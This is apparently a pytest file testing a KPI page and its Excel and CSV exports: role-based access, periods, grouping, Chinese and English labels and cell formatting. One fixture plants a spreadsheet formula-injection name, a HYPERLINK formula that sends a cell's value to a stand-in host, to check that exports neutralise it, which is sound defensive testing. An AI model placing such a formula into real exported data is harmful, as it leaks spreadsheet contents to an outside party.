"""The indicators page and its Excel export: who may see them, the period, the grouping and
both languages."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook
from webui_env import USERS

from engine.deployment import Bundle

PROCESSES = Path(__file__).parents[2] / "processes"
READERS = {"dept_head", "head2", "marketing_director", "process_owner", "admin",
           "senior_manager", "sm2"}  # senior managers read their own rows
PROSPECT = {"customer_name": "中铁十局", "industry": "road_bridge", "source_channel": "referral",
            "existing_customer": False, "key_contact_name": "王工",
            "key_contact_phone": "138 0000 0000"}


@pytest.fixture
def registered(env):
    """One prospect registered by the senior manager on 2026-03-02 through the real process."""
    env.run(lambda s, kf, u: kf.deploy(s, Bundle.from_folder(PROCESSES)))
    instance_id = env.start("key_account_development", customer=None)
    env.complete(env.open_task(instance_id).id, "senior_manager", PROSPECT)
    return instance_id


def zh(client, url):
    return client.get(url, headers={"Accept-Language": "zh"})


def development_section(client, url):
    """The English page's development area."""
    page = client.get(url, headers={"Accept-Language": "en"}).get_data(as_text=True)
    return page.split('id="kpi-development"')[1].split('id="kpi-visits"')[0], page


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx", "/kpis.csv"])
def test_leaders_admins_and_senior_managers_see_the_indicators(client_for, user, url):
    response = client_for(user).get(url)
    assert response.status_code == (200 if user in READERS else 403)


@pytest.mark.parametrize("url", ["/kpis", "/kpis.xlsx", "/kpis.csv"])
def test_anonymous_is_sent_to_sign_in(client_for, url):
    assert client_for(None).get(url).status_code in (302, 401)


def test_navigation_links_the_page_for_readers_only(client_for):
    assert 'id="nav-kpis"' in zh(client_for("dept_head"), "/").get_data(as_text=True)
    assert 'id="nav-kpis"' in zh(client_for("senior_manager"), "/").get_data(as_text=True)
    assert 'id="nav-kpis"' not in zh(client_for("clerk"), "/").get_data(as_text=True)


def test_default_period_is_this_month_in_china(client_for):
    page = zh(client_for("dept_head"), "/kpis").get_data(as_text=True)
    assert 'name="from" value="2026-03-01"' in page and 'name="to" value="2026-03-31"' in page
    assert "绩效指标" in page and "登记潜在客户" in page


def test_figures_by_person_then_by_role_in_english(client_for, registered):
    head = client_for("dept_head")
    section, _ = development_section(head, "/kpis?from=2026-03-01&to=2026-03-31")
    assert "Prospects registered" in section
    assert "<tr><td>senior_manager</td><td>1</td>" in section
    section, page = development_section(head, "/kpis?from=2026-03-02&to=2026-03-02&by=role")
    assert '<option value="role" selected>' in page
    assert "<tr><td>senior_manager</td><td>1</td>" in section  # the role, here
    assert "<tr><td>Total</td><td>1</td>" in section
    section, _ = development_section(head, "/kpis?from=2026-04-01&to=2026-04-30")
    assert "<tr><td>Total</td><td>0</td>" in section


@pytest.mark.parametrize("query", ["from=2026-13-01", "to=yesterday", "by=team",
                                   "from=2026-03-10&to=2026-03-01"])
def test_a_bad_period_or_grouping_is_refused(client_for, query):
    assert client_for("dept_head").get("/kpis?" + query).status_code == 422


@pytest.mark.parametrize(("lang", "sheet", "header", "total", "rate"), [
    ("zh", "客户开发", "登记潜在客户", "合计", "批准率"),
    ("en", "Development", "Prospects registered", "Total", "Approval rate"),
])
def test_excel_export_has_a_sheet_per_table_with_typed_cells(client_for, registered, lang,
                                                             sheet, header, total, rate):
    response = client_for("marketing_director").get(
        "/kpis.xlsx?from=2026-03-01&to=2026-03-31&by=user", headers={"Accept-Language": lang})
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert "kpis-2026-03-01-2026-03-31.xlsx" in response.headers["Content-Disposition"]
    book = load_workbook(BytesIO(response.data))
    assert len(book.sheetnames) == 12 and sheet in book.sheetnames  # one per table
    assert len({name.lower() for name in book.sheetnames}) == 12 and book.sheetnames[0] in (
        "计分卡", "Scorecard")
    ws = book[sheet]
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0][0] == sheet and "2026-03-01" in rows[0][1]  # title, period
    assert rows[1][1] == header and ws.freeze_panes == "A3" and ws.auto_filter.ref
    assert rows[2][:2] == ["senior_manager", 1] and rows[3][:2] == [total, 1]
    assert ws.cell(3, 2).number_format == "#,##0"
    assert ws.cell(2, rows[1].index(rate) + 1).font.bold
    for width_of in ("A", "B"):
        assert ws.column_dimensions[width_of].width >= 8
    # Every rate in the workbook is a number with a percentage format, never text.
    cells = [row[column] for sheet_ in book.worksheets
             for column, title in enumerate(next(sheet_.iter_rows(2, 2, values_only=True)))
             if title and (title.endswith("率") or title.endswith(" rate"))
             for row in sheet_.iter_rows(3) if row[column].value is not None]
    assert cells, "the month has an on-time rate at least"
    assert all(isinstance(c.value, int | float) and c.number_format == "0.0%" for c in cells)


def test_page_formats_numbers_and_percentages_for_the_reader(client_for, registered):
    page = client_for("dept_head").get("/kpis?from=2026-03-01&to=2026-03-31",
                                       headers={"Accept-Language": "en"}).get_data(as_text=True)
    development = page.split('id="kpi-development"')[1].split('id="kpi-visits"')[0]
    assert "<td>senior_manager</td><td>1</td>" in development
    assert "None" not in page and "0.0%" not in development.split("<td>")[1]


FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
BELL = "bell\x07\x1bname"  # control characters a workbook cannot hold


@pytest.fixture
def hostile_names(env):
    """Two senior managers with hostile names each registered a prospect (by=user groups)."""
    from engine.accounts import create_user

    env.run(lambda s, kf, u: kf.deploy(s, Bundle.from_folder(PROCESSES)))
    for name in (FORMULA, BELL):
        env.run(lambda s, kf, u, name=name: create_user(s, kf.clock, name, ["senior_manager"]))
        instance_id = env.start("key_account_development", by=name, customer=None)
        env.complete(env.open_task(instance_id).id, name, PROSPECT)


def test_excel_export_writes_names_as_text_never_as_formulas(client_for, hostile_names):
    response = client_for("dept_head").get("/kpis.xlsx?from=2026-03-01&to=2026-03-31",
                                           headers={"Accept-Language": "en"})
    assert response.status_code == 200  # a control character in a name made this a 500
    cells = {cell.value: cell for row in load_workbook(BytesIO(response.data))["Development"]
             for cell in row if isinstance(cell.value, str)}
    formula = cells[FORMULA]
    assert formula.data_type == "s" and formula.quotePrefix  # text, not a live formula
    assert "bellname" in cells and cells["bellname"].data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_csv_export_neutralises_formula_like_cells(client_for, hostile_names):
    import csv

    response = client_for("dept_head").get("/kpis.csv?from=2026-03-01&to=2026-03-31",
                                           headers={"Accept-Language": "en"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "kpis-2026-03-01-2026-03-31.csv" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(text[1:].splitlines()))
    names = [row[0] for row in rows if row]
    assert "'" + FORMULA in names and FORMULA not in names and "bellname" in names
    assert "Development – Development" in names


def test_api_kpis_carries_the_new_areas_as_documented(client_for, registered):
    from jsonschema import validate

    from webui.api.openapi import document

    body = client_for("dept_head").get("/api/kpis?from=2026-03-01&to=2026-03-31").get_json()
    validate(body, document()["components"]["schemas"]["Kpis"])
    assert body["development"]["totals"]["prospects_registered"] == 1
    assert {"groups", "steps", "processes", "approvals", "overdue_now"} <= set(body)
